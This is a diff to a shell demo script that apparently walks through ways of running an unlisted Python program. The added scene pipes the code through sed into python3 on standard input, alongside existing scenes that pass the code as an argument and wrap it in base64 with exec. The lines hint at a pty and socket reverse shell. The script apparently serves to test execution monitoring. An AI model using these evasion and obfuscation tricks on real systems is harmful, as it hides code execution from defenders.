@@ -219,7 +219,9 @@ play()
 	inside /usr/bin/python3 /tmp/unlisted.py
 	scene "8. The same code in an argument" "python3 -c 'import os, pty, socket; ...'"
 	inside /usr/bin/python3 -c "$(cat "$work/unlisted.py")"
-	scene "9. The same code wrapped in base64" "python3 -c 'import base64; exec(base64.b64decode(...))'"
+	scene "9. The same code on standard input" "sed 's/$/ #/' /tmp/unlisted.py | python3 -"
+	inside /bin/sh -c "sed 's/\$/ #/' /tmp/unlisted.py | /usr/bin/python3 -"
+	scene "10. The same code wrapped in base64" "python3 -c 'import base64; exec(base64.b64decode(...))'"
 	inside /usr/bin/python3 -c "import base64; exec(base64.b64decode('$payload'))"
 	sleep 1
 }
